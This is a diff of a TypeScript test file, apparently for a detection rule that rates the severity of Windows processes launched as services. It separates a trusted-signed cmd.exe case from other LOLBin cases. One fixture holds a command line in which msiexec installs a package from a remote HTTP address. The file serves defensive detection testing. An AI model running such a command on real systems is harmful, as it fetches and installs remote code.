@@ -119,11 +119,14 @@ const severities: readonly Scenario[] = [
   ...outcomes(story, judged('Medium', 'after boot', 2), {
     'a young boot does not outweigh an unsigned file': { ...young(seconds(-20)), ...row({ IsSigned: false }) },
   }),
-  ...outcomes(story, judged('High', 'LOLBin'), {
+  // That its signer is known is worth a revision; it is no more severe, and no less.
+  ...outcomes(story, judged('High', 'LOLBin', 2), {
     'cmd.exe as a service, whatever its signature': {
       certificate: certificate(sha1, { IsSigned: true, IsTrusted: true }),
       child: { FileName: 'cmd.exe', FolderPath: 'C:\\Windows\\System32\\cmd.exe' },
     },
+  }),
+  ...outcomes(story, judged('High', 'LOLBin'), {
     'msiexec.exe with a package': { child: { ...installer, ProcessCommandLine: 'msiexec.exe /V /i http://10.20.3.117/a.msi' } },
   }),
   ...outcomes(story, judged('Low', 'Windows Installer service'), { 'the Windows Installer service': { child: installer } }),
